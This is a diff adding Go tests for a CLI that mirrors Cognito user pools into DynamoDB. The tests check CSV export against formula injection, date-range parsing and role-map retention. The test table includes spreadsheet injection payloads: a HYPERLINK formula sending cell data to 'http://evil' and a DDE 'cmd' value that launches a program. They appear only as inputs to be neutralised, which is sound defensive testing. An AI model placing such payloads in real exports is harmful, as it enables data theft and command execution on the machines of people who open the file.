@@ -1,0 +1,121 @@
+package main
+
+import (
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/idmirror/idmirror"
+	"github.com/idmirror/idmirror/internal/testenv"
+	"github.com/idmirror/idmirror/mirror"
+)
+
+func TestCSVSafe(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil/?"&A1)`: `'=HYPERLINK("http://evil/?"&A1)`,
+		"+1+cmd|' /C calc'!A0":           "'+1+cmd|' /C calc'!A0",
+		"-2+3":                           "'-2+3",
+		"@SUM(A1)":                       "'@SUM(A1)",
+		"\tx":                            "'\tx",
+		"\rx":                            "'\rx",
+		"+447700900123":                  "+447700900123", // exactly E.164: a phone number stays
+		"+44 7700 900123":                "'+44 7700 900123",
+		"alice@example.com":              "alice@example.com",
+		"":                               "",
+	} {
+		if got := csvSafe(in); got != want {
+			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// A user-writable attribute that is a formula reaches a spreadsheet inert in
+// CSV; JSON keeps the raw value.
+func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	db := testenv.DynamoDB(t)
+	table := testenv.NewTable(t, db)
+	s := mirror.New(db, table, nil)
+	ctx := context.Background()
+	at := time.Date(2026, 9, 30, 22, 0, 0, 0, time.UTC)
+	u := idmirror.User{PoolID: "p", Sub: "sub-eve", Username: "eve", Enabled: true,
+		Attributes: map[string]string{"email": "eve@example.com", "given_name": `=HYPERLINK("http://evil")`, "phone_number": "+447700900123"}}
+	if _, err := s.PutUser(ctx, idmirror.UserWrite{User: u, Fields: idmirror.AllFields, At: at, Source: idmirror.SourceSync}); err != nil {
+		t.Fatal(err)
+	}
+	args := []string{"audit", "export", "--table", table, "--pool", "p"}
+	code, out, stderr := runCLI(t, append(args, "--format", "csv")...)
+	if code != exitOK {
+		t.Fatalf("%d %s", code, stderr)
+	}
+	recs, _ := csv.NewReader(strings.NewReader(out)).ReadAll()
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if strings.HasPrefix(cell, "=") {
+				t.Fatalf("a formula cell reached the CSV: %q\n%s", cell, out)
+			}
+		}
+	}
+	if !strings.Contains(out, "+447700900123") || strings.Contains(out, "'+447700900123") {
+		t.Fatalf("an E.164 phone number must stay as it is:\n%s", out)
+	}
+	if _, out, _ = runCLI(t, append(args, "--format", "json")...); !strings.Contains(out, `"=HYPERLINK`) {
+		t.Fatalf("JSON keeps raw values:\n%s", out)
+	}
+
+	// --until with a date alone includes that day (a change at 22:00 on the 30th).
+	code, out, stderr = runCLI(t, "audit", "changes", "--table", table, "--pool", "p", "--since", "2026-07-01", "--until", "2026-09-30", "--format", "json")
+	var rows []map[string]any
+	if code != exitOK || json.Unmarshal([]byte(out), &rows) != nil || len(rows) == 0 {
+		t.Fatalf("changes until 2026-09-30 missed that day's change: %d %s %s", code, out, stderr)
+	}
+}
+
+func FuzzParseBound(f *testing.F) {
+	for _, s := range []string{"2026-09-30", "2026-09-30T23:59:59Z", "2026-09-30T23:59:59.123456789+02:00", "", "x", "2026-13-40"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		from, err1 := parseInstant("since", s)
+		until, err2 := parseUntil("until", s)
+		if (err1 == nil) != (err2 == nil) {
+			t.Fatalf("%q: one parser accepts, the other refuses: %v / %v", s, err1, err2)
+		}
+		if err1 != nil {
+			if !strings.Contains(err1.Error(), "--since") {
+				t.Fatalf("the error names no flag: %v", err1)
+			}
+			return
+		}
+		if until.Before(from) || until.Sub(from) >= 24*time.Hour {
+			t.Fatalf("%q: until %v is not within the day after %v", s, until, from)
+		}
+	})
+}
+
+// A manual sync without --role-map keeps the role map the deployment
+// recorded; it does not flip it back to the default.
+func TestManualSyncKeepsTheRecordedRoleMap(t *testing.T) {
+	direct := testenv.CognitoDirect(t)
+	testenv.Cognito(t)
+	db := testenv.DynamoDB(t)
+	table := testenv.NewTable(t, db)
+	pool := testenv.NewPool(t, direct, "admins", "support")
+	custom := t.TempDir() + "/roles.json"
+	if err := os.WriteFile(custom, []byte(`{"roles":[{"name":"admin","groups":["admins"]},{"name":"support","groups":["support"]}]}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if code, _, stderr := runCLI(t, "sync", "--table", table, "--pool", pool.ID, "--repair", "--role-map", custom); code != exitOK {
+		t.Fatalf("sync with the deployed map: %d %s", code, stderr)
+	}
+	if code, _, stderr := runCLI(t, "sync", "--table", table, "--pool", pool.ID, "--repair"); code != exitOK {
+		t.Fatalf("manual sync: %d %s", code, stderr)
+	}
+	m, err := mirror.New(db, table, nil).RoleMapAsOf(context.Background(), pool.ID, time.Time{})
+	if err != nil || len(m.Roles) != 2 || m.Roles[1].Name != "support" {
+		t.Fatalf("recorded role map after a manual sync: %+v %v", m, err)
+	}
+}
